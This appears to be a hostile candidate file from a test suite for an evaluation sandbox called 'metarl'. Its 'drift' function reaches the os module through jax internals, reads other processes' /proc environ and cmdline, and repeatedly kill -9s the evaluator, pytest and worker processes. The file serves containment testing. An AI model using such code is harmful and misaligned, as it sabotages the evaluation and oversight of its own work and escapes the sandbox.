# task: drift
# attack: kill -9 every process it can see that belongs to the evaluation: all of its ancestors (the evaluator, pytest), every descendant of its parent (spare workers, siblings), every process carrying the evaluation's environment (the test's sacrificial sleep) and every metarl worker; ten rounds over a second. (Deliberately not kill(-1) nor every pid: unsandboxed, as root, that would take the whole machine down; the targets are what an attacker would want dead.)
# contained: the test process and its sacrificial sleep survive, later evaluations still work; the candidate fails
# expect: fail
# run: alone-last
J = jax
OS = J.version.os
B = J.version.subprocess.builtins
WORDS = (b"metarl.evaluation.worker", b"metarl-hostile")


def read(path):
    try:
        return B.open(path, "rb").read()
    except OS.error:
        return b""


def parent_of(pid):
    for line in read(f"/proc/{pid}/status").splitlines():
        if line.startswith(b"PPid:"):
            return B.int(line.split()[1])
    return 0


def victims():
    me = OS.getpid()
    pids = [B.int(n) for n in OS.listdir("/proc") if n.isdigit()]
    parents = {pid: parent_of(pid) for pid in pids}
    chosen = []
    ancestor = parents.get(me, 0)
    while ancestor > 1:
        chosen.append(ancestor)
        ancestor = parents.get(ancestor, 0)
    tree = [OS.getppid()]
    for pid in pids:
        walk = pid
        for depth in range(6):
            walk = parents.get(walk, 0)
            if walk == OS.getppid():
                tree.append(pid)
    chosen += tree
    for pid in pids:
        if b"METARL_HOSTILE" in read(f"/proc/{pid}/environ") or any(w in read(f"/proc/{pid}/cmdline") for w in WORDS):
            chosen.append(pid)
    return [p for i, p in enumerate(chosen) if p not in chosen[:i] and p not in (me, 1, 0)]


def drift(ratio, advantage, epsilon):
    log = []
    for round in range(10):
        for pid in victims():
            try:
                OS.kill(pid, 9)
                log.append(f"killed {pid}")
            except OS.error as error:
                log.append(f"{pid}: {error.strerror}")
        J.version.subprocess.time.sleep(0.1)
    raise ValueError("hostile report: " + "; ".join(log[:200]))
    return ratio
